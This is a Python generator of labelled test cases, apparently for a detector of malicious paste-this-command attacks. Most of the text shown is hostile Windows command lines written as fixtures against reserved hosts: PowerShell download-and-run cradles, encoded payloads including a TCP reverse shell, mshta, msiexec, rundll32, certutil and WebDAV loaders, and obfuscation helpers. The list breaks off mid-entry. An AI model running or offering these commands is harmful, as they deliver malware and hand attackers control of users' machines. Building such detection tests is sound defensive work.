"""Writes the project's own labelled cases: malicious_cases.jsonl and benign_cases.jsonl.

Run `python tests/data/make_cases.py` to regenerate both files next to this script, or
`python tests/data/make_cases.py --check` to verify the committed files are what it produces.
The output is deterministic: no randomness, no clock, and the compressed payloads use a small
fixed-Huffman deflate encoder below instead of zlib (whose output differs between builds).

Nothing here is ever executed. Malicious cases use only reserved hosts (.invalid, .test,
.example, example.com/net/org, the documentation IP ranges) or made-up paths on services that
attackers abuse. Every encoded payload is computed here, never typed by hand.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import struct
import sys
import unicodedata
import zlib
from collections import Counter
from pathlib import Path

HERE = Path(__file__).resolve().parent
MALICIOUS_FILE = HERE / "malicious_cases.jsonl"
BENIGN_FILE = HERE / "benign_cases.jsonl"
CORPUS_DIR = HERE / "dev"
MAX_TEXT_BYTES = 4096

PLATFORMS = {"windows", "macos", "linux", "browser", "any"}
KINDS = {
    "install-oneliner",
    "admin-command",
    "dev-command",
    "prose",
    "code",
    "url",
    "path",
    "secret-like",
    "security-writeup",
    "other",
}

MALICIOUS: list[dict[str, str]] = []
BENIGN: list[dict[str, str]] = []
_counters: Counter[str] = Counter()


def mal(technique: str, platform: str, expect: str, *texts: str) -> None:
    """Adds malicious cases; expect is "malicious" (must block) or "flagged" (warn or block)."""
    assert expect in {"malicious", "flagged"}, expect
    assert platform in PLATFORMS, platform
    for text in texts:
        _counters["m-" + technique] += 1
        MALICIOUS.append(
            {
                "id": f"m-{technique}-{_counters['m-' + technique]}",
                "text": text,
                "expect": expect,
                "technique": technique,
                "platform": platform,
            }
        )


def ben(kind: str, platform: str, *texts: str) -> None:
    """Adds benign cases that must stay clean or info."""
    assert kind in KINDS, kind
    assert platform in PLATFORMS, platform
    for text in texts:
        _counters["b-" + kind] += 1
        BENIGN.append(
            {
                "id": f"b-{kind}-{_counters['b-' + kind]}",
                "text": text,
                "kind": kind,
                "expect": "not_flagged",
                "platform": platform,
            }
        )


# --- encoders (computed, never hand-typed) ---------------------------------------------------


def ps_enc(command: str) -> str:
    """What powershell -EncodedCommand takes: base64 of UTF-16LE."""
    return base64.b64encode(command.encode("utf-16-le")).decode()


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _fixed_huffman_deflate(data: bytes) -> bytes:
    """Raw deflate, one final block with fixed Huffman codes and literals only (deterministic)."""
    bits: list[int] = [1, 1, 0]  # BFINAL=1, BTYPE=01 (fixed), both written LSB first

    def code(value: int, length: int) -> None:
        bits.extend((value >> (length - 1 - i)) & 1 for i in range(length))  # Huffman: MSB first

    for byte in data:
        if byte < 144:
            code(0x30 + byte, 8)
        else:
            code(0x190 + byte - 144, 9)
    code(0, 7)  # end of block (256)
    out = bytearray()
    for i in range(0, len(bits), 8):
        chunk = bits[i : i + 8]
        out.append(sum(bit << j for j, bit in enumerate(chunk)))
    return bytes(out)


def gzip_bytes(text: str) -> bytes:
    data = text.encode()
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    trailer = struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)
    return header + _fixed_huffman_deflate(data) + trailer


def zlib_bytes(data: bytes) -> bytes:
    return b"\x78\x01" + _fixed_huffman_deflate(data) + struct.pack(">I", zlib.adler32(data))


def raw_deflate(text: str) -> bytes:
    return _fixed_huffman_deflate(text.encode())


def ip_hex(ip: str) -> str:
    return ".".join(f"0x{int(o):02X}" for o in ip.split("."))


def ip_oct(ip: str) -> str:
    return ".".join(f"0{int(o):03o}" for o in ip.split("."))


def ip_int(ip: str) -> str:
    a, b, c, d = (int(o) for o in ip.split("."))
    return str((a << 24) | (b << 16) | (c << 8) | d)


def caret(word: str) -> str:
    return "^".join(word)


def char_codes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


def hex_bytes(text: str) -> str:
    return ",".join(f"0x{b:02x}" for b in text.encode())


def js_hex_escape(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


def percent_all(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def xor_hex(text: str, key: int) -> str:
    return bytes(b ^ key for b in text.encode()).hex()


def ps_single_quote(text: str) -> str:
    return text.replace("'", "''")


# Default values of Windows environment variables, used to spell words with %VAR:~i,1%.
_ENV = (
    ("COMSPEC", "C:\\WINDOWS\\system32\\cmd.exe"),
    ("PUBLIC", "C:\\Users\\Public"),
    ("ProgramData", "C:\\ProgramData"),
    ("windir", "C:\\WINDOWS"),
)


def env_spell(word: str, negative: bool = False) -> str:
    """Spells word with cmd substrings of well-known variables; letters none of them has stay."""
    out = []
    for ch in word:
        for name, value in _ENV:
            idx = value.lower().find(ch.lower())
            if idx >= 0 and ch.isalpha():
                offset = idx - len(value) if negative else idx
                out.append(f"%{name}:~{offset},1%")
                break
        else:
            out.append(ch)
    return "".join(out)


def env_value(spelled: str) -> str:
    """Expands what env_spell wrote (used only to assert the spelling is right)."""
    values = dict(_ENV)
    out, i = [], 0
    while i < len(spelled):
        if spelled[i] == "%":
            end = spelled.index("%", i + 1)
            name, rest = spelled[i + 1 : end].split(":~")
            start, length = (int(x) for x in rest.split(","))
            value = values[name]
            out.append(value[start : start + length] if start >= 0 else value[start:][:length])
            i = end + 1
        else:
            out.append(spelled[i])
            i += 1
    return "".join(out)


def token(seed: str, n: int, alphabet: str = "") -> str:
    """A deterministic pseudo-random string (for OAuth codes, ids, hashes)."""
    raw = b""
    counter = 0
    while len(raw) < n * 2:
        raw += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    if alphabet:
        return "".join(alphabet[b % len(alphabet)] for b in raw[:n])
    return b64url(raw)[:n]


def pad(n: int, ch: str = " ") -> str:
    return ch * n


def cycle_pad(n: int, chars: str) -> str:
    return "".join(chars[i % len(chars)] for i in range(n))


# Look-alike letters (Cyrillic unless noted).
CYR = {
    "a": "\u0430",
    "c": "\u0441",
    "e": "\u0435",
    "i": "\u0456",
    "o": "\u043e",
    "p": "\u0440",
    "x": "\u0445",
    "y": "\u0443",
    "s": "\u0455",
    "h": "\u04bb",
    "C": "\u0421",
    "I": "\u0399",  # Greek capital iota
}


def glyphs(text: str, letters: str) -> str:
    """Replaces the given Latin letters by look-alikes."""
    return "".join(CYR[ch] if ch in letters and ch in CYR else ch for ch in text)


def fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def math_mono(text: str) -> str:
    """MATHEMATICAL MONOSPACE letters (NFKC folds them back to ASCII)."""
    return "".join(chr(0x1D68A + ord(c) - ord("a")) if "a" <= c <= "z" else c for c in text)


# =============================================================================================
# Malicious: Windows
# =============================================================================================

IP1 = "192.0.2.1"

mal(
    "ps-cradle",
    "windows",
    "malicious",
    'powershell -w h -nop -c "iex (iwr -UseBasicParsing https://update-check.invalid/gate.ps1)"',
    "powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"Invoke-Expression (Invoke-WebRequest -Uri 'https://cdn-verify.test/s/loader.txt' -UseBasicParsing).Content\"",
    'powershell -win 1 -ep bypass -c "irm https://198.51.100.23/v2/check | iex"',
    "powershell -w hidden -c \"iwr 'https://kite-lemon-river.trycloudflare.com/a.ps1' -UseB | iex\"",
    'cmd /c start /min powershell -w h -c "irm https://pastebin.com/raw/Xk29Lm4Q|iex"',
    "powershell /w 1 /c \"$u='https://files.example.net/p/run.ps1';iex ((iwr $u -useb).content)\"",
    "powershell -WindowStyle hidden -NoProfile -Command \"& {$c = (Invoke-WebRequest 'https://192.0.2.77/c').Content; iex $c}\"",
    "powershell -NoLogo -w h -c \"Invoke-RestMethod -Uri https://dns-verify.example/api/v1/fix -Method POST -Body 'id=4471' | Invoke-Expression\"",
    'pwsh -nop -w hidden -c "iex (irm https://cdn.discordapp.com/attachments/1190342212213813248/1190342300000000000/update.txt)"',
    "powershell -ep bypass -w h -c \"$ProgressPreference='SilentlyContinue'; iwr https://win-update.example/kb5034441.ps1 -OutFile $env:TEMP\\kb.ps1; & $env:TEMP\\kb.ps1\"",
    'powershell -c "iwr https://fixer.example.org/run.ps1 -OutFile $env:APPDATA\\run.ps1; powershell -ep bypass -w hidden -f $env:APPDATA\\run.ps1"',
    "powershell -c \"Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -c iex(irm https://203.0.113.8/s)'\"",
    'powershell -w h -c "$x=iwr https://ok-verify.test/s.txt -UseBasicParsing;[scriptblock]::Create($x.Content).Invoke()"',
    "powershell -noni -nop -w hidden -c \"Invoke-Command -ScriptBlock ([ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('https://static.example.com/i.ps1')))\"",
    'powershell -w h -c "irm https://raw.githubusercontent.com/kb-patch-tools/fix/main/fix.ps1 | iex"',
    'POWERSHELL -W HIDDEN -C "IWR HTTPS://UPDATE-CHECK.INVALID/CAPS.PS1 -USEB | IEX"',
    'powershell -w h -c "Invoke-WebRequest -Uri http://198.51.100.61/d/svc.exe -OutFile C:\\Users\\Public\\svc.exe; Start-Process C:\\Users\\Public\\svc.exe"',
    'powershell  -W  Hidden   -c   "irm   https://teams-fix.test/mic-check   |   iex"',
)
mal(
    "ps-cradle",
    "windows",
    "flagged",
    "powershell -c \"$r = Invoke-RestMethod 'https://api.captcha-check.example/verify?id=88123'; Invoke-Expression $r\"",
    "iex(irm 'https://teams-fix.test/mic' -UseBasicParsing)",
    "irm https://evil-fix.ngrok-free.app/p | iex",
    "iex (iwr https://support-tools.pages.dev/repair.ps1 -UseBasicParsing).Content",
    "Invoke-RestMethod https://gist.githubusercontent.com/anon-7731/0c1f9b2e4d/raw/setup.ps1 | Invoke-Expression",
)

mal(
    "ps-webclient",
    "windows",
    "malicious",
    "powershell -nop -w hidden -c \"IEX ((new-object net.webclient).downloadstring('https://update-check.invalid/a'))\"",
    "PowerShell -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.45:8080/a')\"",
    'powershell -w h -ep bypass -c "(New-Object System.Net.WebClient).DownloadFile(\'https://files.example.net/tools/ChromeUpdate.exe\',\\"$env:TEMP\\ChromeUpdate.exe\\");Start-Process \\"$env:TEMP\\ChromeUpdate.exe\\""',
    "powershell -w h -c \"$b=(New-Object Net.WebClient).DownloadData('https://cdn-verify.test/p.bin');[System.Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)\"",
    "powershell -w 1 -c \"$wc=New-Object System.Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');iex $wc.DownloadString('https://198.51.100.14/x')\"",
    f"powershell -w h -c \"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://{ip_hex('203.0.113.45')}/s')))\"",
    "powershell -w hidden -c \"$w=new-object net.webclient;$w.proxy.credentials=[Net.CredentialCache]::DefaultNetworkCredentials;iex $w.downloadstring('https://login-verify.test/a')\"",
    'cmd.exe /c powershell -NoProfile -WindowStyle Hidden -Command "$f=\\"$env:PUBLIC\\u.vbs\\";(New-Object Net.WebClient).DownloadFile(\'http://192.0.2.14/u.vbs\',$f);wscript $f"',
)
mal(
    "ps-webclient",
    "windows",
    "flagged",
    "powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('https://gist.githubusercontent.com/anon-7731/0c1f9b2e/raw/p.ps1')\"",
    'powershell -c "[Net.ServicePointManager]::SecurityProtocol=\'tls12\';$d=New-Object Net.WebClient;$d.DownloadFile(\'https://meet-fix.invalid/audio_driver.msi\',\\"$env:TEMP\\ad.msi\\");msiexec /i \\"$env:TEMP\\ad.msi\\" /qn"',
)

mal(
    "ps-bits",
    "windows",
    "malicious",
    'powershell -w h -c "Start-BitsTransfer -Source https://update-check.invalid/u.exe -Destination $env:TEMP\\u.exe; & $env:TEMP\\u.exe"',
    'powershell -c "Start-BitsTransfer \'http://198.51.100.9/b/payload.ps1\' \\"$env:PUBLIC\\p.ps1\\"; powershell -ep bypass -w hidden -File \\"$env:PUBLIC\\p.ps1\\""',
    'Start-BitsTransfer -Source "https://dl.example.org/setup.exe" -Destination "$env:APPDATA\\setup.exe" -Priority Foreground; Start-Process "$env:APPDATA\\setup.exe" -WindowStyle Hidden',
)

mal(
    "ps-bits",
    "windows",
    "flagged",
    "Import-Module BitsTransfer; Start-BitsTransfer -Source https://cdn-verify.test/s.txt -Destination C:\\ProgramData\\s.txt; iex (Get-Content C:\\ProgramData\\s.txt -Raw)",
)

mal(
    "ps-webrequest",
    "windows",
    "malicious",
    "powershell -w h -nop -c \"$r=[Net.WebRequest]::Create('https://update-check.invalid/r');$s=New-Object IO.StreamReader($r.GetResponse().GetResponseStream());iex $s.ReadToEnd()\"",
    "powershell -w hidden -c \"[System.Net.HttpWebRequest]::Create('http://203.0.113.77/c').GetResponse().GetResponseStream() | % { (New-Object IO.StreamReader $_).ReadToEnd() } | iex\"",
    "powershell -w hidden -c \"$h=New-Object System.Net.Http.HttpClient;iex $h.GetStringAsync('https://teams-fix.test/x').Result\"",
    "powershell -nop -w 1 -c \"&([scriptblock]::Create((New-Object IO.StreamReader([Net.WebRequest]::Create('https://fix-audio.example/s').GetResponse().GetResponseStream())).ReadToEnd()))\"",
)

mal(
    "ps-iex-alias",
    "windows",
    "malicious",
    'powershell -w h -c "&(gcm i*x)(irm https://update-check.invalid/s)"',
    "powershell -w h -c \".($env:ComSpec[4,15,25]-join'')((New-Object Net.WebClient).DownloadString('https://198.51.100.8/a'))\"",
    "powershell -w h -c \"&($shellid[1]+$shellid[13]+'x') (irm https://cdn-verify.test/a)\"",
    "powershell -w h -c \".($pshome[4]+$pshome[30]+'x')(iwr https://files.example.net/s -UseB)\"",
    'powershell -w h -c "&(gal i?x) (irm https://win-update.example/g)"',
    'powershell -w h -c "$ExecutionContext.InvokeCommand.InvokeScript((irm https://203.0.113.20/x))"',
    'powershell -w h -c "(irm https://teams-fix.test/p)|&(gcm *ke-e*n)"',
    'powershell -w h -c "sal x iex; x (iwr https://static.example.com/k -useb).content"',
    "powershell -w hidden -c \"& (('{1}{0}' -f 'ex','i')) (irm https://captcha-check.example/f)\"",
    "powershell -w h -c \"$e=$ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression'); & $e (irm 'https://dns-verify.example/q')\"",
)

# -EncodedCommand with real UTF-16LE base64 of the inner command.
_enc_payloads = [
    "iex (iwr -UseBasicParsing https://update-check.invalid/stage2.ps1)",
    '$c=New-Object Net.WebClient;$c.DownloadFile(\'https://files.example.net/svc.exe\',"$env:TEMP\\svc.exe");Start-Process "$env:TEMP\\svc.exe"',
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.31/a')",
    "$c=New-Object Net.Sockets.TCPClient('203.0.113.66',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}",
    "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://cdn-verify.test/u.exe -OutFile $env:APPDATA\\u.exe; & $env:APPDATA\\u.exe",
    "Start-BitsTransfer https://dl.example.org/p.zip $env:TEMP\\p.zip; Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p -Force; & $env:TEMP\\p\\client32.exe",
    "irm https://sable-quiet-owl.trycloudflare.com/ps | iex",
    "msiexec /i https://203.0.113.12/agent.msi /qn",
    "mshta https://captcha-check.example/v.hta",
    "$u='https://teams-fix.test/m';$p=\"$env:LOCALAPPDATA\\m.ps1\";iwr $u -OutFile $p;powershell -w h -ep bypass -f $p",
    "Set-Clipboard -Value ' '; iex (irm https://win-update.example/k)",
    f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('iwr https://dns-verify.example/n -UseBasicParsing | iex')}')))",
    '$d="$env:APPDATA\\nsm";iwr https://files.example.org/ns.zip -OutFile "$d.zip";Expand-Archive "$d.zip" $d -Force;Start-Process "$d\\client32.exe"',
    "Invoke-Expression (Invoke-RestMethod -Uri 'https://raw.githubusercontent.com/win-helpers-cdn/p/main/a.ps1')",
]
_enc_prefixes = [
    "powershell -enc ",
    "powershell.exe -nop -w hidden -e ",
    "powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand ",
    "pwsh -ec ",
    "powershell -NoP -NonI -W Hidden -Enc ",
    "cmd /c start /min powershell -windowstyle hidden -encodedCommand ",
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -eNcOdEdCoMmAnD ',
    "%SystemRoot%\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -nop -en ",
    "powershell /enc ",
    "powershell \u2013w hidden \u2013e ",  # en dashes: PowerShell accepts them as parameter dashes
    "powershell -EnC ",
    "cmd /c powershell -encod ",
    "conhost --headless powershell -e ",
    "PowerShell -ExecutionPolicy Unrestricted -WindowStyle Minimized -EncodedCommand ",
]
mal(
    "ps-encoded",
    "windows",
    "malicious",
    *(prefix + ps_enc(cmd) for prefix, cmd in zip(_enc_prefixes, _enc_payloads, strict=True)),
)

_gz_payload = "iex (New-Object Net.WebClient).DownloadString('https://update-check.invalid/gz')"
_deflate_payload = "iwr https://files.example.net/d.ps1 -UseBasicParsing | iex"
_bat_b64 = b64(
    "@echo off\r\ncurl -s https://files.example.net/r.exe -o %TEMP%\\r.exe && start %TEMP%\\r.exe"
)
_split_b64 = b64("iex(iwr https://cdn-verify.test/split -useb)")
mal(
    "ps-frombase64",
    "windows",
    "malicious",
    f"powershell -w h -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('iwr https://teams-fix.test/b -UseBasicParsing | iex')}')))\"",
    f"powershell -nop -c \"[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{ps_enc('irm https://198.51.100.77/u | iex')}'))|iex\"",
    f'powershell -w hidden -c "[IO.File]::WriteAllBytes(\\"$env:TEMP\\r.bat\\",[Convert]::FromBase64String(\'{_bat_b64}\'));Start-Process \\"$env:TEMP\\r.bat\\""',
    f"powershell -nop -w hidden -c \"$s=[Convert]::FromBase64String('{base64.b64encode(gzip_bytes(_gz_payload)).decode()}');$m=New-Object IO.MemoryStream(,$s);$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress);iex (New-Object IO.StreamReader($g)).ReadToEnd()\"",
    f"powershell -w 1 -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{base64.b64encode(raw_deflate(_deflate_payload)).decode()}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    f"powershell -w h -c \"$a='{_split_b64[:20]}';$b='{_split_b64[20:]}';iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($a+$b)))\"",
    f"POWERSHELL -W 1 \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('Start-Process mshta -ArgumentList https://captcha-check.example/b64')}')) | iex\"",
    "powershell -w h -c \"iex ([System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String((irm 'https://pastebin.com/raw/7bQm2xLp'))))\"",
)

mal(
    "mshta-url",
    "windows",
    "malicious",
    "mshta https://captcha-check.example/verify/7731",
    "mshta.exe http://198.51.100.23/fix.hta",
    'C:\\Windows\\System32\\mshta.exe "https://files.example.net/assets/update.hta"',
    f"mshta http://{ip_hex(IP1)}/ebc/rps.gz",
    f"mshta http://{ip_oct('203.0.113.5')}/x",
    f"mshta http://{ip_int('203.0.113.5')}/a.hta",
    "MsHtA.ExE hTtPs://cf-check.invalid/cloudflare/turnstile",
    "mshta https://meet-fix.pages.dev/mic-fix.html",
    'cmd /c start "" mshta https://dns-verify.example/?r=48213',
    "mshta \\\\203.0.113.99\\share\\update.hta",
    "mshta http://198.0x33.100.7/l",
    "mshta https://verify-human.netlify.app/c.hta",
)

mal(
    "mshta-script",
    "windows",
    "malicious",
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c iex(irm https://update-check.invalid/a)"",0:close")',
    'mshta javascript:a=GetObject("script:https://files.example.net/c.sct").Exec();close();',
    'mshta vbscript:CreateObject("Wscript.Shell").Run("cmd /c curl -s -o %TEMP%\\s.exe https://198.51.100.5/s.exe & %TEMP%\\s.exe",0,True)(window.close)',
    "mshta \"javascript:var sh=new ActiveXObject('WScript.Shell');sh.Run('powershell -nop -w hidden -c \\\"iwr https://cdn-verify.test/p.ps1 -useb|iex\\\"',0);close()\"",
    'mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.30/x.sct"")"))',
    "mshta \"about:<hta:application showintaskbar=no><script>new ActiveXObject('WScript.Shell').Run('powershell -w h irm https://teams-fix.test/x|iex',0);close()</script>\"",
)

mal(
    "msiexec-remote",
    "windows",
    "malicious",
    "msiexec -package http:\\\\198.51.100.77\\msi\\ValidationID\\44812 /quiet",
    'MsiExec.exe /I "https://captcha-check.example/smartcheck/device/verify" /QN',
    "msiexec /q /i http://203.0.113.14/u.msi",
    "C:\\Windows\\System32\\msiexec.exe /package https://cdn-verify.test/CF/human/9921 /quiet /norestart",
    "msiexec.exe -i http:\\\\files.example.net\\pkg\\..\\verify\\..\\7711 -qn",
    "msiexec /y \\\\203.0.113.5\\share\\helper.dll",
    f"msiexec /i http://{ip_hex('198.51.100.40')}/i.msi /qn",
)
mal(
    "msiexec-remote",
    "windows",
    "flagged",
    "msiexec /i https://files.example.net/agent/setup.msi /qn",
    "msiexec /i https://update.example.org/Teams_windows_x64.msi",
)

mal(
    "rundll32-remote",
    "windows",
    "malicious",
    "rundll32.exe \\\\files.example.net\\check\\verify.dll,Start",
    "rundll32 \\\\203.0.113.40@SSL\\DavWWWRoot\\s.dll,DllMain",
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://update-check.invalid/r.sct")',
    "rundll32.exe url.dll,FileProtocolHandler \\\\198.51.100.2\\pub\\run.exe",
    "cmd /c start rundll32 \\\\cf-check.invalid@80\\share\\tool.dll,#1",
    "rundll32.exe \\\\dns-verify.example\\public\\mscorsvc.dll,DllRegisterServer & echo Verification complete",
)

mal(
    "regsvr32-remote",
    "windows",
    "malicious",
    "regsvr32 /s /n /u /i:https://files.example.net/file.sct scrobj.dll",
    "regsvr32.exe /u /n /s /i:http://198.51.100.33/a.sct scrobj.dll",
    "regsvr32 -s -i:https://cdn-verify.test/x scrobj.dll",
    "start regsvr32 /s \\\\203.0.113.88\\pub\\verify.dll",
    "C:\\Windows\\SysWOW64\\regsvr32.exe /s /i:\\\\update-check.invalid@SSL\\dav\\t.sct scrobj.dll",
    "cmd /c regsvr32 /s \\\\files.example.org\\hi\\demo.dll & REM Cloudflare Turnstile check passed",
)

mal(
    "certutil-download",
    "windows",
    "malicious",
    "certutil -urlcache -split -f https://files.example.net/svc.exe %TEMP%\\svc.exe && %TEMP%\\svc.exe",
    "certutil.exe -urlcache -f http://198.51.100.71/p.txt p.b64 & certutil -decode p.b64 p.exe & p.exe",
    "certutil -urlcache -split -f http://203.0.113.9/u.bat %PUBLIC%\\u.bat & start /min %PUBLIC%\\u.bat",
    'CeRtUtIl -URLcache -SpLiT -F "https://files.example.org/d.dll" C:\\ProgramData\\d.dll && rundll32 C:\\ProgramData\\d.dll,Start',
)
mal(
    "certutil-download",
    "windows",
    "flagged",
    "certutil -verifyctl -f -split https://update-check.invalid/a.exe",
    "certutil -urlcache -split -f https://dl.example.com/tool.zip tool.zip",
)

mal(
    "bitsadmin",
    "windows",
    "malicious",
    "bitsadmin /transfer upd /download /priority high https://files.example.net/u.exe %TEMP%\\u.exe & start %TEMP%\\u.exe",
    "cmd /c bitsadmin /transfer j /priority foreground http://198.51.100.50/a.ps1 C:\\Users\\Public\\a.ps1 && powershell -ep bypass -w h -f C:\\Users\\Public\\a.ps1",
    "bitsadmin /create x & bitsadmin /addfile x https://cdn-verify.test/x.exe C:\\ProgramData\\x.exe & bitsadmin /SetNotifyCmdLine x C:\\ProgramData\\x.exe NUL & bitsadmin /resume x",
)
mal(
    "bitsadmin",
    "windows",
    "flagged",
    'bitsadmin.exe /transfer "WindowsUpdate" https://win-update.example/kb.exe "%APPDATA%\\kb.exe"',
)

mal(
    "finger",
    "windows",
    "malicious",
    "cmd /c finger verify@files.example.net | cmd",
    "finger.exe 7d2k@203.0.113.17 | more +2 | cmd",
    'cmd /c "for /f "skip=3 delims=" %i in (\'finger gate@update-check.invalid\') do %i"',
    f"%COMSPEC% /c {caret('finger')} user@cf-check.invalid | {caret('cmd')}",
    'cmd /c start "" /min cmd /c "copy %windir%\\system32\\finger.exe %temp%\\vc.exe & %temp%\\vc.exe ray@captcha-check.example | cmd"',
    "finger admin@198.51.100.88 > %temp%\\a.bat && %temp%\\a.bat",
)

mal(
    "nslookup-staging",
    "windows",
    "malicious",
    "cmd /c for /f \"skip=4 tokens=*\" %a in ('nslookup -type=txt s1.stage.example 203.0.113.53') do @%a",
    "powershell -w h -c \"iex ((nslookup -q=txt p.update-check.invalid 2>$null | Select-String '\\\"').Line.Trim().Trim('\\\"'))\"",
    'powershell -w h -c "iex (Resolve-DnsName -Type TXT cmd.cf-check.invalid).Strings"',
    'cmd /c nslookup -type=TXT stg.files.example.net 192.0.2.53 | findstr "=" > %TEMP%\\r.cmd && %TEMP%\\r.cmd',
    'cmd /v:on /c "for /f "tokens=2 delims=^"" %x in (\'nslookup -querytype=TXT run.dns-verify.example\') do (set c=%x& call !c!)"',
)

mal(
    "conhost-headless",
    "windows",
    "malicious",
    'conhost.exe --headless powershell -w h -c "iwr https://update-check.invalid/a.ps1 -useb | iex"',
    '"C:\\Windows\\System32\\conhost.exe" --headless cmd /c curl -sLo %TEMP%\\s.zip https://files.example.net/s.zip & tar -xf %TEMP%\\s.zip -C %TEMP% & %TEMP%\\s\\run.exe',
    "conhost --headless mshta https://captcha-check.example/hv",
    'conhost --headless powershell -ep bypass -c "$d=irm https://203.0.113.71/p; iex $d"',
)

mal(
    "pcalua",
    "windows",
    "malicious",
    "pcalua.exe -a \\\\203.0.113.41@SSL\\DavWWWRoot\\update.exe",
    'pcalua -a powershell.exe -c "-w h -c iex(irm https://update-check.invalid/p)"',
    "C:\\Windows\\System32\\pcalua.exe -a mshta.exe -c https://files.example.net/c.hta",
)

mal(
    "wscript-download",
    "windows",
    "malicious",
    "cmd /c curl -s https://files.example.net/inv.vbs -o %TEMP%\\inv.vbs && wscript //B %TEMP%\\inv.vbs",
    'powershell -w h -c "iwr https://cdn-verify.test/run.js -OutFile $env:TEMP\\run.js; cscript //nologo //E:JScript $env:TEMP\\run.js"',
    'cmd /c "bitsadmin /transfer s https://198.51.100.4/s.vbs %PUBLIC%\\s.vbs & wscript.exe %PUBLIC%\\s.vbs"',
    "wscript.exe \\\\203.0.113.35@SSL\\DavWWWRoot\\doc.js",
    "cscript //E:VBScript \\\\update-check.invalid\\share\\check.txt",
)

mal(
    "curl-exe-run",
    "windows",
    "malicious",
    'curl -k -o "%LOCALAPPDATA%\\Temp\\upd.exe" https://198.51.100.22/upd.exe & "%LOCALAPPDATA%\\Temp\\upd.exe"',
    "cmd /c start /min curl -s https://cdn-verify.test/a.bat -o %TEMP%\\a.bat ^& %TEMP%\\a.bat",
    "curl.exe -L -o C:\\Users\\Public\\Document.pdf.exe https://docs-share.invalid/d & C:\\Users\\Public\\Document.pdf.exe",
)
mal(
    "curl-exe-run",
    "windows",
    "flagged",
    'cmd /c curl.exe -sL https://files.example.net/setup.exe -o %TEMP%\\setup.exe && start "" %TEMP%\\setup.exe',
    'cmd /c "curl -fsSL https://amber-fox-lake.trycloudflare.com/c.cmd -o %TEMP%\\c.cmd & call %TEMP%\\c.cmd"',
    'powershell -c "curl.exe -s https://files.example.org/s.ps1 | powershell -"',
)

mal(
    "webdav",
    "windows",
    "malicious",
    "cmd /c net use W: \\\\files.example.net@SSL\\dav /persistent:no && W:\\check.bat",
    "net use * http://198.51.100.66/webdav & \\\\198.51.100.66\\webdav\\fix.exe",
    "cmd /c pushd \\\\update-check.invalid@SSL\\DavWWWRoot\\ & start setup.exe & popd",
    "cmd /c net use Q: https://cf-check.invalid/dav/ /persistent:no & Q:\\run.cmd & net use Q: /delete /y",
    "powershell -w h -c \"& '\\\\files.example.org@SSL\\share\\u.ps1'\"",
)
mal(
    "webdav",
    "windows",
    "flagged",
    "\\\\203.0.113.10@SSL\\DavWWWRoot\\verification\\human_check.exe",
    "explorer.exe \\\\dns-verify.example@SSL@443\\DavWWWRoot\\Invoice.pdf.lnk",
)

mal(
    "cmd-caret",
    "windows",
    "malicious",
    f'{caret("powershell")} -w h -c "iwr https://update-check.invalid/a|iex"',
    f"{caret('cmd')} /c {caret('mshta')} https://captcha-check.example/x",
    'cmd /c "p^ow^ers^hell^.exe -nop -w hid^den -c i^ex(i^rm https://files.example.net/p)"',
    f"{caret('CURL')} -s https://198.51.100.81/b.bat -o %TEMP%\\b.bat & %TEMP%\\b.bat",
    f"cmd /c {caret('certutil')} -url^cache -sp^lit -f https://cdn-verify.test/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe",
    "^" + caret("powershell.exe") + " -e " + ps_enc("iex (irm https://teams-fix.test/caret)"),
    's^t^a^r^t "" /min p^o^w^e^r^s^h^e^l^l -w h "i^r^m https://dns-verify.example/c | i^e^x"',
)

mal(
    "cmd-setvar",
    "windows",
    "malicious",
    'cmd /v:on /c "set a=pow&&set b=ershell&&!a!!b! -w h -c iex(irm https://update-check.invalid/s)"',
    'cmd /c "set p=msh&& set q=ta&& call %p%%q% https://captcha-check.example/v"',
